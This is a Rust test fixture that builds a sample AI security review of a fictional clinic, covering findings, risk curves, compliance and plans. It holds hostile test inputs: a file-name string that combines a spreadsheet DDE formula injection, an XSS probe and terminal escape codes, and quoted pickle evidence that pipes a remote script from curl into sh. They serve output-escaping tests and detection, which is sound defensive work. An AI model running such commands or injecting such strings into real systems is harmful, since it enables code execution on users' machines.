//! A review of a small clinic with something in every part, hostile names among it.

use std::collections::BTreeMap;

use vauban_domain::{
    Acceptance, Action, ActionKind, AppetitePoint, AppetiteVerdict, Asset, AssetId, AssetKind, AttackPath,
    CalibrationRow, Cascades, CaseReference, Claim, Confidence, ControlSetting, CostOfDelay, Coverage, Curve,
    DataFlow, Declaration, Digest, Driver, DriverKind, Evidence, Exercise, ExerciseRun, Finding, Forecast,
    ForecastScore, FrameworkAssessment, History, Interval, Layer, Limit, Locator, LossCurve, LossPoint,
    LossRange, Measurement, Outcome, PathStep, Placement, Plan, PlanStep, Proof, Relation, RelationKind,
    RequirementAssessment, RequirementEvidence, RequirementStatus, ReturnOnControl, Review, Risk, Rule, Rung,
    Scenario, Schedule, Score, Severity, Status, StepEvidence, Support, System, SystemDue, Threat, Timestamp,
    Trigger, Vendor, Verdict, rule,
};

/// A file name that tries to be markup, a formula, a mention and a table at once.
pub(crate) const HOSTILE: &str =
    "=cmd|'/c calc'!A1 <script>alert(1)</script> \"& @team `x` \u{202e}\u{1b}[2J";

rule! {
    /// Code runs on loading.
    pub(crate) const PICKLE: "pickle-code-execution" {
        family: Artifact,
        severity: Critical,
        title: "loading this file runs code",
        why: "a pickle is a program, and this one calls something that starts processes",
        remedy: "do not load it; convert the weights to safetensors from a source you trust",
        techniques: ["AML.T0011.000@2026.09", "AML.T0018.002@2026.09"],
        mitigations: ["AML.M0013@2026.09"],
        weaknesses: ["CWE-502"],
        owasp: ["LLM03:2025", "ML06:2023"],
        threats: ["L1.3@2025-02"],
        source: "https://docs.python.org/3/library/pickle.html",
    }
}

rule! {
    /// The model gives way.
    pub(crate) const WEAK: "model-weak-to-evasion" {
        family: Robustness,
        severity: High,
        title: "small changes of the input change the answer",
        why: "whoever can choose inputs can choose outputs",
        remedy: "train adversarially, or put a person behind the decision",
        techniques: ["AML.T0015@2026.09"],
        mitigations: ["AML.M0003@2026.09"],
        weaknesses: [],
        owasp: ["ML01:2023"],
        threats: ["L1.1@2025-02"],
        source: "Madry et al., Towards Deep Learning Models Resistant to Adversarial Attacks, ICLR 2018",
    }
}

rule! {
    /// No hash beside the pin.
    pub(crate) const UNHASHED: "dependency-without-hash" {
        family: Dependency,
        severity: Info,
        title: "a pinned package has no hash",
        why: "the index could hand out other bytes under the same version",
        remedy: "lock with hashes",
        techniques: ["AML.T0010.001@2026.09"],
        mitigations: [],
        weaknesses: ["CWE-353"],
        owasp: ["LLM03:2025"],
        threats: [],
        source: "https://pip.pypa.io/en/stable/topics/secure-installs/",
    }
}

/// Day `day` of November 2026.
pub(crate) fn november(day: u32) -> Timestamp {
    Timestamp::from_date(2026, 11, day).unwrap()
}

fn id(kind: AssetKind, name: &str) -> AssetId {
    AssetId::new(kind, name)
}

fn triage() -> AssetId {
    id(AssetKind::Model, "models/triage.pkl")
}

fn reader() -> AssetId {
    id(AssetKind::Model, "models/form-reader.onnx")
}

fn assets() -> Vec<Asset> {
    let file = |kind, component, layer, name: &str| {
        let mut asset = Asset::new(kind, component, layer, name, Confidence::Verified, Locator::file(name));
        asset.digest = Some(Digest::of(name.as_bytes()));
        asset.size = Some(48_213);
        asset
    };
    let mut triage = file(AssetKind::Model, "model_weights", Layer::FoundationModels, "models/triage.pkl")
        .with("format", "pickle")
        .with("licence", "Apache-2.0");
    triage.system = Some("triage".to_owned());
    triage.locators.push(Locator::file("backup/triage.pkl"));
    triage.locators.sort();
    let mut reader =
        file(AssetKind::Model, "model_weights", Layer::FoundationModels, "models/form-reader.onnx")
            .with("format", "onnx")
            .with("classes", "10")
            .with("input_shape", "1x8x8")
            .with("version", "2");
    reader.system = Some("form reader".to_owned());
    let mut endpoint = Asset::new(
        AssetKind::Endpoint,
        "inference_endpoint",
        Layer::Deployment,
        "k8s/clinic/form-reader",
        Confidence::Inferred,
        Locator::file("deploy/kserve.yaml").at_line(4).at_key("spec.predictor"),
    )
    .with("authentication", "none")
    .with("exposure", "internet");
    endpoint.system = Some("form reader".to_owned());
    let package = Asset::new(
        AssetKind::Package,
        "package",
        Layer::AgentFrameworks,
        "pypi/torch",
        Confidence::Declared,
        Locator::file("requirements.txt").at_line(3),
    )
    .with("version", "2.9.1");
    let agent = Asset::new(
        AssetKind::Agent,
        "agent",
        Layer::Ecosystem,
        "assistant",
        Confidence::Inferred,
        Locator::file("assistant/agent.py").at_line(12),
    );
    let tool = Asset::new(
        AssetKind::Tool,
        "mcp_server",
        Layer::AgentFrameworks,
        "mcp/files",
        Confidence::Inferred,
        Locator::file("assistant/mcp.json").at_key("mcpServers.files"),
    );
    let identity = Asset::new(
        AssetKind::Identity,
        "service_account",
        Layer::Security,
        "k8s/clinic/runner",
        Confidence::Inferred,
        Locator::file("deploy/role.yaml").at_line(2),
    );
    let data = file(AssetKind::Dataset, "training_data", Layer::DataOperations, "data/digits.npy")
        .with("rows", "1437");
    let hostile = file(AssetKind::Notebook, "notebook", Layer::DataOperations, HOSTILE);
    let mut assets = vec![triage, reader, endpoint, package, agent, tool, identity, data, hostile];
    assets.sort_by(|a, b| a.id.cmp(&b.id));
    assets
}

fn relations() -> Vec<Relation> {
    let relation =
        |from, kind, to| Relation::new(from, kind, to, Confidence::Inferred, Locator::file("train.py"));
    let mut crossing = relation(
        id(AssetKind::Agent, "assistant"),
        RelationKind::SendsTo,
        id(AssetKind::Endpoint, "k8s/clinic/form-reader"),
    );
    crossing.attributes.insert("boundary".to_owned(), "internet".to_owned());
    vec![
        crossing,
        relation(id(AssetKind::Endpoint, "k8s/clinic/form-reader"), RelationKind::Serves, reader()),
        relation(reader(), RelationKind::TrainedOn, id(AssetKind::Dataset, "data/digits.npy")),
        relation(triage(), RelationKind::DependsOn, id(AssetKind::Package, "pypi/torch")),
    ]
}

fn findings() -> Vec<Finding> {
    let mut at_call = Evidence::new(
        Locator::file("models/triage.pkl").in_member("archive/data.pkl").at_offset(131),
        "os.system",
        "os.system('curl http://198.51.100.7/x | sh')",
    );
    at_call.observed_at = Some(november(18));
    let hostile_asset = id(AssetKind::Notebook, HOSTILE);
    let mut findings = vec![
        Finding::new(&PICKLE, &triage(), "loading calls os.system", vec![at_call]),
        Finding::new(
            &WEAK,
            &reader(),
            "robust accuracy is 12 % at eps 0.1, below the declared 50 %",
            vec![Evidence::new(
                Locator::file("models/form-reader.onnx"),
                "pgd-linf",
                "24 of 200 samples hold",
            )],
        ),
        Finding::new(
            &UNHASHED,
            &id(AssetKind::Package, "pypi/torch"),
            "torch 2.9.1 has no hash",
            vec![Evidence::new(Locator::file("requirements.txt").at_line(3), "torch", "torch==2.9.1")],
        ),
        Finding::new(
            &UNHASHED,
            &hostile_asset,
            HOSTILE,
            vec![Evidence::new(Locator::file(HOSTILE).at_line(1).at_key(HOSTILE), HOSTILE, HOSTILE)],
        )
        .with_severity(Severity::Low),
    ];
    findings.sort_by(|a, b| b.severity.cmp(&a.severity).then_with(|| a.fingerprint.cmp(&b.fingerprint)));
    findings
}

fn outcomes() -> Vec<Outcome> {
    let outcome = |rule: &Rule, asset, verdict| Outcome { rule: rule.id.clone(), asset, verdict };
    let cnn = reader();
    vec![
        outcome(&UNHASHED, id(AssetKind::Package, "pypi/torch"), Verdict::Found(1)),
        outcome(&WEAK, cnn.clone(), Verdict::Found(1)),
        outcome(&WEAK, triage(), Verdict::Skipped("no test data is declared for it".to_owned())),
        outcome(&PICKLE, cnn, Verdict::NotApplicable("no pickle".to_owned())),
        outcome(&PICKLE, triage(), Verdict::Found(1)),
        outcome(
            &PICKLE,
            id(AssetKind::Notebook, HOSTILE),
            Verdict::Failed(format!("could not read {HOSTILE}")),
        ),
        outcome(&UNHASHED, triage(), Verdict::Clean),
    ]
}

fn measurements() -> Vec<Measurement> {
    let measurement = |attack: &str, metric: &str, value: f64, successes, curve: Curve| Measurement {
        id: format!("{attack}/{metric}/models/form-reader.onnx"),
        asset: reader(),
        techniques: vec!["AML.T0015".into()],
        attack: attack.to_owned().into(),
        metric: metric.to_owned().into(),
        value,
        interval: Interval::wilson(successes, 200),
        trials: 200,
        queries: 16_000,
        seed: 7,
        parameters: BTreeMap::from([
            ("norm".to_owned(), "linf".to_owned()),
            ("eps".to_owned(), "0.1".to_owned()),
            ("steps".to_owned(), "40".to_owned()),
        ]),
        curves: vec![curve],
        notes: vec!["the random-noise control keeps 97 %".to_owned()],
        ..Measurement::new(&reader(), "", "")
    };
    let robust = Curve {
        x: "eps (L-infinity)".to_owned(),
        y: "robust accuracy".to_owned(),
        points: vec![(0.0, 0.98), (0.025, 0.81), (0.05, 0.52), (0.075, 0.27), (0.1, 0.12)],
    };
    let copied = Curve {
        x: "queries".to_owned(),
        y: "fidelity".to_owned(),
        points: vec![(100.0, 0.61), (500.0, 0.83), (2000.0, 0.94)],
    };
    vec![
        measurement("copycat", "surrogate-fidelity", 0.94, 188, copied),
        measurement("pgd-linf", "robust-accuracy", 0.12, 24, robust),
    ]
}

fn exercise() -> Exercise {
    let run = |controls: Vec<ControlSetting>, success, refused, seconds| ExerciseRun {
        controls,
        measurement: "copycat/surrogate-fidelity/models/form-reader.onnx".to_owned(),
        success,
        requests: 2000,
        refused,
        alerts: vec!["extraction-querying".to_owned()],
        seconds_to_alert: seconds,
    };
    let limit = ControlSetting {
        control: "rate-limit".to_owned(),
        setting: "60 requests a minute per client".to_owned(),
    };
    Exercise {
        id: "copycat/models/form-reader.onnx".to_owned(),
        asset: reader(),
        techniques: vec!["AML.T0024.002".into()],
        attack: "copycat".to_owned(),
        runs: vec![run(vec![], 0.94, 0, Some(41.5)), run(vec![limit], 0.58, 1700, None)],
        detected: true,
        holding: vec!["rate-limit".to_owned()],
        findings: vec![],
        transcript: vec!["2,000 queries sent in 300 s".to_owned(), "alert after 41.5 s".to_owned()],
    }
}

fn coverage() -> Vec<Coverage> {
    let score =
        |rung, reason: &str| Score { rung, reason: reason.to_owned(), decayed_from: None, proofs: vec![] };
    let blind = || score(Rung::Blind, "nobody looked");
    let none = || score(Rung::NotApplicable, "the asset is no model");
    let mut configured = score(Rung::Configured, "an exercise from March has aged");
    configured.decayed_from = Some(Rung::Exercised);
    configured.proofs.push(Proof {
        rung: Rung::Exercised,
        what: "rate-limit held against copycat".to_owned(),
        locator: Some(Locator::file("vauban.toml").at_line(31)),
        as_of: Timestamp::from_date(2026, 3, 2).unwrap(),
        inherited_from: Some("endpoint:gateway".to_owned()),
    });
    let coverage = |technique: &str, asset, [prevent, detect, respond, tested]: [Score; 4]| Coverage {
        technique: technique.to_owned().into(),
        asset,
        prevent,
        detect,
        respond,
        tested,
    };
    vec![
        coverage(
            "AML.T0015",
            reader(),
            [blind(), blind(), blind(), score(Rung::Exercised, "pgd-linf was run")],
        ),
        coverage(
            "AML.T0024.002",
            reader(),
            [
                configured,
                score(Rung::Exercised, "the alarm was raised"),
                score(Rung::Claimed, "ann"),
                blind(),
            ],
        ),
        coverage("AML.T0018.002", triage(), [blind(), score(Rung::Configured, "scanned"), blind(), blind()]),
        coverage("AML.T0051", triage(), [none(), none(), none(), none()]),
    ]
}

fn threats() -> (Vec<Threat>, Vec<AttackPath>) {
    let threat = |kind: &str, name: &str, asset: AssetId, support, likelihood| Threat {
        id: format!("{kind}/{asset}"),
        kind: kind.to_owned().into(),
        name: name.to_owned().into(),
        layer: Layer::FoundationModels,
        asset,
        techniques: vec!["AML.T0015".into()],
        factors: vec![],
        support,
        findings: vec![],
        measurements: vec![],
        frequency: 0.4,
        basis: vec!["assumed: one attempt in two years".to_owned()],
        likelihood,
    };
    let threats = vec![
        threat("L1.1", "Adversarial Examples", reader(), Support::Observed, 0.42),
        threat("L1.3", "Backdoor Attacks", triage(), Support::Structural, 0.08),
    ];
    let step = |threat: &Threat, via: &str, probability| PathStep {
        threat: threat.id.clone(),
        asset: threat.asset.clone(),
        layer: threat.layer,
        technique: threat.techniques.first().cloned(),
        via: via.to_owned(),
        probability,
        stopped_by: vec!["rate-limit".to_owned()],
        evidence: StepEvidence { measurements: vec!["pgd/reader".to_owned()], ..StepEvidence::default() },
        case_studies: vec![CaseReference {
            id: "AML.CS0004".into(),
            name: "Camera Hijack Attack on Facial Recognition System".into(),
            incident: true,
        }],
    };
    let path = AttackPath {
        id: "p1".to_owned(),
        steps: vec![step(&threats[0], "", 0.42), step(&threats[1], "serves", 0.2)],
        probability: 0.084,
        system: Some("form reader".to_owned()),
        expected_loss: 21_000.0,
        narrative: format!("someone sends {HOSTILE} to the form reader, which misreads a dose"),
    };
    (threats, vec![path])
}

fn curve(scale: f64) -> LossCurve {
    let points = (0..=20)
        .map(|step| {
            let loss = f64::from(step) * 20_000.0 * scale;
            LossPoint { loss, probability: 0.6 * (-f64::from(step) / 5.0).exp() }
        })
        .collect();
    let mean = 61_000.0 * scale;
    LossCurve {
        points,
        mean,
        mean_interval: Interval { low: mean * 0.98, high: mean * 1.02, level: 0.95 },
        value_at_risk_95: 250_000.0 * scale,
        tail_mean_95: 310_000.0 * scale,
        quantiles: vec![LossPoint { loss: 250_000.0 * scale, probability: 0.05 }],
        expected_range: Some(Interval { low: mean * 0.3, high: mean * 2.1, level: 0.9 }),
        trials: 100_000,
        seed: 7,
    }
}

fn delay() -> CostOfDelay {
    CostOfDelay {
        month: 2_500.0,
        month_range: Interval { low: 300.0, high: 7_000.0, level: 0.9 },
        quarter: 7_500.0,
        quarter_range: Interval { low: 900.0, high: 21_000.0, level: 0.9 },
    }
}

fn risk() -> Risk {
    let appetite = vec![
        LossPoint { loss: 50_000.0, probability: 0.2 },
        LossPoint { loss: 300_000.0, probability: 0.05 },
    ];
    Risk {
        currency: "EUR".to_owned(),
        scenarios: vec![Scenario {
            id: "form reader/integrity".to_owned(),
            system: "form reader".to_owned(),
            title: "forms are misread on purpose".to_owned(),
            threats: vec![format!("L1.1/{}", reader())],
            frequency: 0.42,
            loss_low: 20_000.0,
            loss_high: 400_000.0,
            annual_loss: 61_000.0,
            simulation_error: Interval { low: 60_500.0, high: 61_500.0, level: 0.95 },
            expected_range: Some(Interval { low: 9_000.0, high: 180_000.0, level: 0.9 }),
            annual_range: Interval { low: 0.0, high: 250_000.0, level: 0.9 },
            basis: vec!["declared: loss range of the owner".to_owned()],
        }],
        total: curve(1.0),
        after_plan: Some(curve(0.4)),
        exceeded: vec![appetite[0]],
        verdicts: vec![AppetiteVerdict {
            loss: 50_000.0,
            accepted: 0.2,
            probability: 0.34,
            range: Some(Interval { low: 0.12, high: 0.61, level: 0.9 }),
            confidence: Some(0.11),
            held: false,
        }],
        drivers: vec![Driver {
            kind: DriverKind::Magnitude,
            input: format!("integrity loss of {HOSTILE} per event"),
            low: 20_000.0,
            base: 145_000.0,
            high: 400_000.0,
            unit: "EUR".to_owned(),
            loss_at_low: 8_400.0,
            loss_at_high: 168_000.0,
            basis: "declared: 20 000 to 400 000 EUR (vauban.toml:4)".to_owned(),
        }],
        cost_of_delay: Some(delay()),
        draws: 200,
        forecasts: vec![Forecast {
            system: "form reader".to_owned(),
            impact: "integrity".to_owned(),
            probability: 0.098,
            from: november(20),
            until: november(30),
        }],
        forecast_score: Some(ForecastScore {
            count: 4,
            happened: 1,
            brier: Some(0.17),
            base_rate_brier: Some(0.1875),
            skill: Some(0.09),
            calibration: vec![CalibrationRow {
                low: 0.2,
                high: 0.3,
                count: 4,
                forecast: 0.24,
                observed: 0.25,
                range: Interval::wilson(1, 4),
            }],
            pending: 2,
            unscored: vec!["unknown: 1 forecasts of safety at `triage` came due".to_owned()],
        }),
        appetite,
        assumptions: vec!["assumed: losses are lognormal between the two percentiles".to_owned()],
    }
}

fn declaration() -> Declaration {
    let place = |line| Locator::file("vauban.toml").at_line(line);
    Declaration {
        organisation: "Harbor Clinic".to_owned(),
        currency: "EUR".to_owned(),
        systems: vec![System {
            name: "form reader".to_owned(),
            owner: "Ann Lee".to_owned(),
            criticality: "high".to_owned(),
            purpose: "reads handwritten forms".to_owned(),
            assets: vec!["models/form-reader*.onnx".to_owned()],
            losses: BTreeMap::from([(
                "integrity".to_owned(),
                LossRange { low: 20_000.0, likely: None, high: 400_000.0 },
            )]),
            exposure: "internet".to_owned(),
            data: vec!["health".to_owned()],
            role: "provider".to_owned(),
            risk_class: "high-annex-iii".to_owned(),
            regions: vec!["eu".to_owned()],
            locator: place(4),
            ..System::default()
        }],
        assets: vec![],
        claims: vec![Claim {
            control: "rate-limit".to_owned(),
            applies_to: vec!["form reader".to_owned()],
            owner: "Ann Lee".to_owned(),
            date: november(1),
            statement: "the gateway allows 60 requests a minute".to_owned(),
            settings: BTreeMap::from([("requests_per_minute".to_owned(), 60.0)]),
            locator: place(31),
        }],
        flows: vec![DataFlow {
            from: "outside".to_owned(),
            to: "endpoint:k8s/clinic/form-reader".to_owned(),
            data: vec!["health".to_owned()],
            boundary: "internet".to_owned(),
            attributes: BTreeMap::from([("human_gate".to_owned(), "yes".to_owned())]),
            locator: place(40),
        }],
        vendors: vec![Vendor {
            name: "Weights Ltd".to_owned(),
            supplies: "the triage model".to_owned(),
            assets: vec!["models/triage.pkl".to_owned()],
            locator: place(50),
            ..Vendor::default()
        }],
        appetite: vec![AppetitePoint { loss: 50_000.0, probability: 0.2 }],

        acceptances: vec![Acceptance {
            fingerprint: "0123456789abcdef".to_owned(),
            reason: "isolated host".to_owned(),
            until: november(30),
            locator: place(60),
        }],
        ..Declaration::default()
    }
}

/// One piece of evidence, about the form reader unless its kind is about no asset.
fn shows(kind: &str, id: &str, what: &str, supports: bool) -> RequirementEvidence {
    let about_asset = !matches!(kind, "declaration" | "statement" | "control");
    RequirementEvidence {
        kind: kind.to_owned(),
        id: id.to_owned(),
        what: what.to_owned(),
        supports,
        asset: about_asset.then(reader),
        as_of: november(12),
    }
}

/// Every status, every kind of evidence, ids that are no tokens, and a framework that tries to be a formula.
fn compliance() -> Vec<FrameworkAssessment> {
    let requirement = |id: &str, name: &str, status, reason: &str, evidence| RequirementAssessment {
        id: id.to_owned(),
        name: name.to_owned(),
        system: Some("form reader".to_owned()),
        status,
        reason: reason.to_owned(),
        applies_from: Timestamp::from_date(2026, 8, 2),
        evidence,
    };
    let weak = findings().into_iter().find(|one| one.rule == WEAK.id).map(|one| one.fingerprint.to_string());
    let weak = shows("finding", &weak.unwrap(), "small changes change the answer", false);
    let fidelity = "copycat/surrogate-fidelity/models/form-reader.onnx";
    let mut policy = requirement(
        "A.2.2@2023",
        "AI policy",
        RequirementStatus::Satisfied,
        "the board adopted one",
        vec![shows("statement", "A.2.2@2023", "the board adopted a policy", true)],
    );
    policy.system = None;
    policy.applies_from = None;
    vec![
        FrameworkAssessment {
            framework: "eu-ai-act".to_owned(),
            edition: "2024/1689".to_owned(),
            name: "EU AI Act".to_owned(),
            requirements: vec![
                requirement(
                    "Art.14@2024/1689",
                    "Human oversight",
                    RequirementStatus::Unknown,
                    "nobody has said who looks at the outputs",
                    vec![],
                ),
                requirement(
                    "Art.15@2024/1689",
                    "Accuracy, robustness and cybersecurity",
                    RequirementStatus::NotSatisfied,
                    "robust accuracy is below what the owner declared",
                    vec![
                        weak.clone(),
                        shows("measurement", fidelity, "a copy agrees in 94 of 100 answers", false),
                        shows("outcome", "dependency-without-hash", "packages were looked at", true),
                        shows("asset", "model:models/form-reader.onnx", "the model is known", true),
                    ],
                ),
                requirement(
                    "Art.50@2024/1689",
                    "Transparency towards persons",
                    RequirementStatus::NotApplicable,
                    "it answers no person",
                    vec![shows("declaration", "form reader", "reads forms only", true)],
                ),
            ],
        },
        FrameworkAssessment {
            framework: "iso-42001".to_owned(),
            edition: "2023".to_owned(),
            name: "ISO/IEC 42001, Annex A".to_owned(),
            requirements: vec![policy],
        },
        FrameworkAssessment {
            framework: "nist-ai-rmf".to_owned(),
            edition: "1.0".to_owned(),
            name: HOSTILE.to_owned(),
            requirements: vec![
                requirement(
                    "MEASURE 2.7@1.0",
                    HOSTILE,
                    RequirementStatus::Partly,
                    HOSTILE,
                    vec![
                        weak,
                        shows("control", "rate-limit", "the gateway allows 60 requests a minute", true),
                        shows("coverage", "AML.T0024.002", "detected in an exercise", true),
                        shows(HOSTILE, HOSTILE, HOSTILE, false),
                    ],
                ),
                requirement("MEASURE-2.7@1.0", "", RequirementStatus::Unknown, "", vec![]),
            ],
        },
    ]
}

/// One action that a step of the plan stands behind and one that nobody is named for.
fn actions() -> Vec<Action> {
    let closing = |rule: &Rule| -> Vec<_> {
        findings().into_iter().filter(|one| one.rule == rule.id).map(|one| one.fingerprint).collect()
    };
    let action = |id: &str, title: &str, owner: &str, rule: &Rule| Action {
        id: id.to_owned(),
        kind: ActionKind::Findings,
        title: title.to_owned(),
        why: rule.why.to_string(),
        severity: rule.severity,
        system: Some("form reader".to_owned()),
        assets: vec![reader()],
        techniques: rule.techniques.iter().map(|id| id.to_string().into()).collect(),
        control: "rate-limit".to_owned(),
        detection: "detection-request-volume".to_owned(),
        log: "inference log of the endpoint".to_owned(),
        playbook: "extraction-response".to_owned(),
        containment: vec!["freeze the model version".to_owned()],
        owner: owner.to_owned(),
        due: Timestamp::from_date(2026, 12, 20).unwrap(),
        silences: vec![rule.id.to_string()],
        done_when: vec![format!("{} falls silent", rule.id)],
        findings: closing(rule),
    };
    let mut nobody = action(&format!("triage/{HOSTILE}"), HOSTILE, "", &UNHASHED);
    nobody.kind = ActionKind::BlindSpot;
    nobody.control = String::new();
    nobody.system = None;
    nobody.assets = vec![id(AssetKind::Package, "pypi/torch"), id(AssetKind::Notebook, HOSTILE)];
    vec![action("form reader/rate-limit", "limit requests per client", "Ann Lee", &WEAK), nobody]
}

/// The whole review.
pub(crate) fn review() -> Review {
    let (threats, paths) = threats();
    Review {
        id: "2026-11-20T08:30:00Z-5f2c".to_owned(),
        subject: "examples/harbor-clinic".to_owned(),
        trigger: Trigger::NewModelVersion,
        taken_at: Timestamp::parse("2026-11-20T08:30:00Z").unwrap(),
        tool_version: "0.1.0".to_owned(),
        atlas_edition: "2026.09".to_owned(),
        maestro_edition: "2025-02".to_owned(),
        seed: 7,
        declaration: declaration(),
        rules: vec![UNHASHED, WEAK, PICKLE],
        assets: assets(),
        relations: relations(),
        findings: findings(),
        outcomes: outcomes(),
        measurements: measurements(),
        exercises: vec![exercise()],
        coverage: coverage(),
        threats,
        techniques: vec![],
        paths,
        cascades: Cascades::default(),
        risk: Some(risk()),
        plan: Plan {
            steps: vec![PlanStep {
                rank: 1,
                control: "rate-limit".to_owned(),
                name: "Limit requests per client".to_owned(),
                assets: vec![reader()],
                cost: 4_000.0,
                risk_removed: 30_000.0,
                risk_left: 31_000.0,
                mitigations: vec!["AML.M0004@2026.09".to_owned()],
                playbook: "extraction-response".to_owned(),
                threats: vec![format!("L1.1/{}", reader())],
                silences: vec!["model-copied-by-queries".to_owned()],
                findings: vec![],
                return_on_control: Some(ReturnOnControl {
                    net_benefit: 26_000.0,
                    range: Interval { low: -4_000.0, high: 140_000.0, level: 0.9 },
                    probability: 0.21,
                    expected_range: Interval { low: 500.0, high: 81_000.0, level: 0.9 },
                    expected_probability: 0.96,
                    draws: 200,
                    years: 20_000,
                }),
                cost_of_delay: Some(delay()),
                basis: vec!["measured: fidelity falls from 94 % to 58 %".to_owned()],
            }],
            unaddressed: vec!["dependency-without-hash".to_owned()],
        },
        placement: Placement::default(),
        compliance: compliance(),
        actions: actions(),
        vendors: vec![],
        schedule: Schedule {
            systems: vec![SystemDue {
                system: HOSTILE.to_owned(),
                every_days: 90,
                last: None,
                next: Timestamp::from_date(2027, 2, 18).unwrap(),
                late_days: 3,
                sooner: vec![HOSTILE.to_owned()],
            }],
            new_techniques: vec!["AML.T0051".into()],
        },
        limits: vec![Limit {
            place: "data/big.parquet".to_owned(),
            what: "not read: 9 GB is over the bound".to_owned(),
        }],
    }
}

/// A history in which the first finding is new, the second accepted, the third reopened and one is gone.
pub(crate) fn history(review: &Review) -> History {
    let status = [
        Status::New,
        Status::Accepted { reason: "retrained in December".to_owned(), until: november(30) },
        Status::Reopened,
        Status::Open,
    ];
    let mut history: History = review
        .findings
        .iter()
        .zip(status)
        .map(|(finding, status)| (finding.fingerprint.clone(), status))
        .collect();
    history.insert(vauban_domain::Fingerprint::parse("00000000deadbeef").unwrap(), Status::Fixed);
    history
}
